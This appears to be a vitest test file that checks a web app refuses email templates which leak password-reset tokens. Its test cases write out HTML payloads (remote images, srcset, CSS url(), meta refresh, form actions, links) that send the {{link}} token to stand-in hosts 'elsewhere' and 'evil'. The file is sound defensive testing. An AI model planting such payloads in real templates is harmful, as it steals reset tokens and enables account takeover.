// Email templates cannot be turned against staff (spec §7 "Email templates"): a Sub-Admin holding only
// EmailTemplate-list once saved forgot-password with `<img src="https://elsewhere/?{{link}}">`; a guest
// asking a reset for the Admin's email then had the Admin's mail client send the reset token to that
// host on opening. A placeholder now stands only in the text or as the whole href of a link, a mail
// shows only images of the product's own origin, and an Inactive template is not sent.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { sendTemplate } from '@server/mail/mailer';
import { validationMessages } from '@shared/validation/messages';
import { ADMIN, bearer, createUser, dialects, htmlPart, loginAs, resetTokenFromMail, startTestApp, type TestApp } from '../support/api';

const PASSWORD = 'Str0ng@Pass';
const EDITOR = 'templates@example.com';

describe.each(dialects)('email template safety on %s', (dialect) => {
  let t: TestApp;
  let admin: string;
  let editor: string;
  let templateId: number;
  let original: { title: string; description: string; status: string };

  const outbox = () => path.join(t.dataDir, 'outbox');
  const mailFiles = () => (fs.existsSync(outbox()) ? fs.readdirSync(outbox()).sort() : []);
  /** The next mail written after `before` files, once the mails still being sent are (null: none was). */
  async function nextMail(before: number): Promise<string | null> {
    await t.ctx.background.drain();
    const files = mailFiles();
    return files.length > before ? fs.readFileSync(path.join(outbox(), files[files.length - 1]!), 'utf8') : null;
  }
  /** A guest asks a reset for the Admin's email; the mail the Admin receives (or null). */
  async function adminResetMail() {
    const before = mailFiles().length;
    const res = await t.app.inject({ method: 'POST', url: '/api/auth/forgot-password', payload: { email: ADMIN.email } });
    expect(res.statusCode).toBe(200);
    return nextMail(before);
  }
  const save = (fields: Partial<typeof original>, token = editor) =>
    t.app.inject({
      method: 'POST',
      url: '/api/email-template',
      headers: bearer(token),
      payload: { id: templateId, ...original, ...fields },
    });
  const stored = () =>
    t.ctx.db.selectFrom('email_templates').select(['title', 'description', 'status']).where('id', '=', templateId).executeTakeFirstOrThrow();

  beforeAll(async () => {
    t = await startTestApp(dialect);
    admin = (await loginAs(t, ADMIN.email, ADMIN.password)).token;
    await createUser(t, { email: EDITOR, password: PASSWORD, user_type: 'Sub-Admin', permissions: ['EmailTemplate-list'] });
    editor = (await loginAs(t, EDITOR, PASSWORD)).token;
    const list = await t.app.inject({ url: '/api/email-template?filter=forgot', headers: bearer(editor) });
    const row = list.json().data.data.find((r: { slug: string }) => r.slug === 'forgot-password');
    templateId = row.id;
    original = { title: row.title, description: row.description, status: row.status };
  });
  afterAll(async () => t.close());

  it('refuses the attack: a Sub-Admin saving the reset link inside a remote image', async () => {
    const res = await save({ description: '<p>Hello {{name}}</p><p><img src="https://elsewhere/?{{link}}"></p>' });
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe(validationMessages.templatePlaceholderPlace);
    expect(res.json().data.errors.description).toBe(validationMessages.templatePlaceholderPlace);
    expect((await stored()).description).toBe(original.description);

    // and the reset a guest asks for the Admin's email carries the token only in the product's own link
    const mail = htmlPart((await adminResetMail()) ?? '');
    const token = resetTokenFromMail(mail);
    expect(token).toBeTruthy();
    expect(mail).not.toContain('elsewhere');
    expect(mail.replaceAll(`href="http://admin.test/reset-password/${token}"`, '')).not.toContain(token);
  });

  it.each([
    ['srcset', '<p><img src="/uploads/logo.png" srcset="https://elsewhere/?{{link}} 2x"></p>'],
    ['style', '<p style="background:url(https://elsewhere/?{{link}})">Hi</p>'],
    ['background', '<table background="https://elsewhere/?{{link}}"><tr><td>Hi</td></tr></table>'],
    ['a link to another host', '<p><a href="https://evil/?{{link}}">Reset my password</a></p>'],
    ['an own image', '<p><img src="/uploads/logo.png?{{link}}"></p>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil/?{{link}}"><p>Hi</p>'],
    ['form action', '<form action="https://evil/?{{link}}"><button>Go</button></form>'],
    ['an input value', '<form><input name="t" value="{{link}}"></form>'],
  ])('refuses a placeholder in %s', async (_name, description) => {
    const res = await save({ description });
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe(validationMessages.templatePlaceholderPlace);
    expect((await stored()).description).toBe(original.description);
  });

  it('refuses a remote image, even without a placeholder', async () => {
    for (const description of ['<p>Hi <img src="https://elsewhere/logo.png"></p>', '<p><img src="//elsewhere/logo.png"></p>']) {
      const res = await save({ description });
      expect(res.statusCode, description).toBe(400);
      expect(res.json().message).toBe(validationMessages.templateRemoteImage);
    }
    expect((await stored()).description).toBe(original.description);
  });

  it('saves a normal template: text placeholders, a link to {{link}}, own images; the mail shows them', async () => {
    const description =
      '<p>Hello {{name}},</p><p><a href="{{link}}">Choose a new password</a> or open {{link}}</p>' +
      '<p><img src="/uploads/logo.png" alt="Logo"></p><p>It expires in {{expires_in}}.</p>';
    const res = await save({ title: 'Password help for {{name}}', description });
    expect(res.statusCode).toBe(200);
    expect(res.json().message).toBe('Email Template has been updated successfully');
    expect((await stored()).description).toBe(
      '<p>Hello {{name}},</p><p><a href="{{link}}">Choose a new password</a> or open {{link}}</p>' +
        '<p><img src="/uploads/logo.png" alt="Logo" /></p><p>It expires in {{expires_in}}.</p>',
    );

    const raw = (await adminResetMail()) ?? '';
    expect(raw.replace(/=\r?\n/g, '')).toMatch(/Subject: Password help for/);
    const mail = htmlPart(raw);
    const token = resetTokenFromMail(mail);
    expect(mail).toContain(`<a href="http://admin.test/reset-password/${token}">Choose a new password</a>`);
    expect(mail).toContain(`or open http://admin.test/reset-password/${token}`);
    expect(mail).toContain('<img src="http://admin.test/uploads/logo.png" alt="Logo" />');
    expect((await save(original, admin)).statusCode).toBe(200);
  });

  it('a template written to the database before the rule renders no token outside the allowed places and no remote image', async () => {
    await t.ctx.db
      .updateTable('email_templates')
      .set({
        description:
          '<p>Hello {{name}}</p><p><img src="https://elsewhere/?{{link}}"><img src="https://elsewhere/pixel.gif"></p>' +
          '<p><img src="/uploads/a.png" srcset="https://elsewhere/?{{link}} 2x"></p>' +
          '<p style="background:url(https://elsewhere/?{{link}})">x</p><table background="https://elsewhere/?{{link}}"><tr><td>y</td></tr></table>' +
          '<meta http-equiv="refresh" content="0;url=https://elsewhere/?{{link}}">' +
          '<p><a href="https://elsewhere/?{{link}}">Bad</a> <a href="{{link}}">Reset</a></p>',
      })
      .where('id', '=', templateId)
      .execute();
    const mail = htmlPart((await adminResetMail()) ?? '');
    const token = resetTokenFromMail(mail);
    expect(token).toBeTruthy();
    expect(mail).toContain(`<a href="http://admin.test/reset-password/${token}">Reset</a>`);
    // the token appears nowhere else
    expect(mail.replaceAll(`href="http://admin.test/reset-password/${token}"`, '')).not.toContain(token);
    // nothing is loaded from elsewhere: the only image is the own one, made absolute
    expect([...mail.matchAll(/<img[^>]*>/g)].map((m) => m[0])).toEqual(['<img src="http://admin.test/uploads/a.png" />']);
    expect(mail).not.toMatch(/<meta|url\(|background=|srcset/);
    await t.ctx.db.updateTable('email_templates').set(original).where('id', '=', templateId).execute();
  });

  it('an Inactive template sends no mail', async () => {
    expect((await save({ status: 'Inactive' })).statusCode).toBe(200);
    const before = mailFiles().length;
    // the guest's answer is the same either way
    const res = await t.app.inject({ method: 'POST', url: '/api/auth/forgot-password', payload: { email: ADMIN.email } });
    expect(res.statusCode).toBe(200);
    expect(res.json().message).toBe('Link has been sent to your Email ID');
    await t.ctx.background.drain();
    expect(await nextMail(before)).toBeNull();

    // sendTemplate says it did not send, and tells the log which template
    const warn = vi.fn();
    const send = vi.fn(async () => undefined);
    const sent = await sendTemplate(t.ctx.db, { send, ownOrigin: t.config.publicUrl, log: { warn } }, 'forgot-password', ADMIN.email, {});
    expect(sent).toBe(false);
    expect(send).not.toHaveBeenCalled();
    expect(warn).toHaveBeenCalledWith(expect.objectContaining({ slug: 'forgot-password' }), expect.stringContaining('forgot-password'));

    // Active again: the mail goes out
    expect((await save({ status: 'Active' })).statusCode).toBe(200);
    expect(await adminResetMail()).toBeTruthy();
  });
});
